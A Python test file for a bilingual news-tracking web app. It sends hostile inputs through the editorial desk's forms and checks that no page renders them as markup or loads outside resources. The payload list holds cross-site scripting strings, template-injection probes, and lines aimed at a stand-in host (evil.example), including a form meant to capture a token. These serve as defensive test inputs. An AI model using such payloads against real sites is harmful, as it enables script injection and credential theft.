"""Texts from outside stay texts on every page, pages load nothing from elsewhere, and the desk's own words are complete."""

from __future__ import annotations

import json
import re
from collections.abc import Callable

import httpx
from lxml import html as lxml_html

from tests.web.house import House
from tracker.model import Item, Reason
from tracker.web.guard import HEADERS
from tracker.web.strings import STRINGS

Propose = Callable[..., int]

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=token>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<style>@import'//evil.example'</style>",
    "\u202e<script>\u2028alert(1)\x00\x08\ud800</script>",
)
PAGES = (
    "/desk/",
    "/desk/decisions",
    "/desk/events/",
    "/desk/sources",
    "/",
    "/it/",
    "/changes/",
    "/event/hostile/",
    "/desk/events/hostile",
)


def test_no_text_from_outside_becomes_markup(house: House, propose: Propose) -> None:
    pages = list(PAGES)
    for place, payload in enumerate(PAYLOADS):
        first, second, third = (propose_hostile(propose, payload, f"{place}{turn}") for turn in "abc")
        typed = payload.encode(errors="replace").decode()  # what a browser sends for what cannot be encoded
        page = f"/desk/candidate/{first}"
        assert house.send(page, f"{page}/approve", id=f"hostile-{first}", summary__en=typed, reason=typed).status_code == 303
        page = f"/desk/events/hostile-{first}"
        assert house.send(page, f"{page}/edit", claim__1__en=f"{typed} said", claim__1__it=typed).status_code == 303
        page = f"/desk/candidate/{second}"
        assert house.send(page, f"{page}/reject", reason=typed, note=typed).status_code == 303
        page = f"/desk/candidate/{third}"
        refused = house.send(page, f"{page}/approve", date=typed, title__en=typed)
        assert refused.status_code == 422
        assert_harmless(refused)
        pages += [f"/event/hostile-{first}/", f"/desk/events/hostile-{first}", f"/desk/?{httpx.QueryParams({'timeline': typed})}"]
        pages += [f"/desk/candidate/{number}" for number in (first, second, third)]
    for path in pages:
        assert_harmless(house.get(path))


def propose_hostile(propose: Propose, payload: str, name: str) -> int:
    item = Item(payload, f"https://wire.test/{name}", text=payload, origin=payload, language="en")
    scheme = Item(payload, "javascript:alert(1)", guid=f"{payload}{name}", text=payload)
    reasons = (Reason("core_title", 2.0, (payload,), payload), Reason(payload, 1.0, (payload,), payload))
    return propose((item, scheme), title=payload, reasons=reasons, official_ids=(payload,))


def assert_harmless(response: httpx.Response) -> None:
    assert response.headers["content-security-policy"] == HEADERS["content-security-policy"]
    for element in lxml_html.fromstring(response.content).iter():
        assert element.tag not in ("iframe", "object", "embed", "base", "img", "style"), response.url
        if element.tag == "script":
            assert is_own_script(element), response.url
        if element.tag == "form":
            assert re.fullmatch(r"/desk/.*|\./|(\.\./)+", element.get("action", ""))
        for name, value in element.attrib.items():
            assert not name.startswith("on"), response.url
            assert name != "srcdoc"
            if name in ("href", "src", "action"):
                assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:", "//"))


def is_own_script(element: lxml_html.HtmlElement) -> bool:
    """Whether it is one of our files with nothing in it, or a record for machines, which nothing runs."""
    if element.get("type") == "application/ld+json":
        return isinstance(json.loads(element.text), dict)
    return element.text is None and re.fullmatch(r"/desk/desk\.js|(\.\./)*site\.js", element.get("src", "")) is not None


def test_pages_load_nothing_from_elsewhere(house: House, number: int) -> None:
    for path in ("/", "/desk/", f"/desk/candidate/{number}", "/digests/", "/nothing"):
        page = lxml_html.fromstring(house.get(path).content)
        for found in page.xpath("//script/@src | //link[@rel='stylesheet']/@href | //img/@src"):
            assert "//" not in found, path


def test_every_word_of_the_desk_is_said_in_both_languages_with_the_same_places() -> None:
    english, italian = STRINGS["en"], STRINGS["it"]
    assert english.keys() == italian.keys()
    for key, text in english.items():
        assert set(re.findall(r"\{\w+\}", text)) == set(re.findall(r"\{\w+\}", italian[key])), key


def test_no_word_has_the_name_of_something_a_template_would_find_first() -> None:
    assert not STRINGS["en"].keys() & set(dir({}))
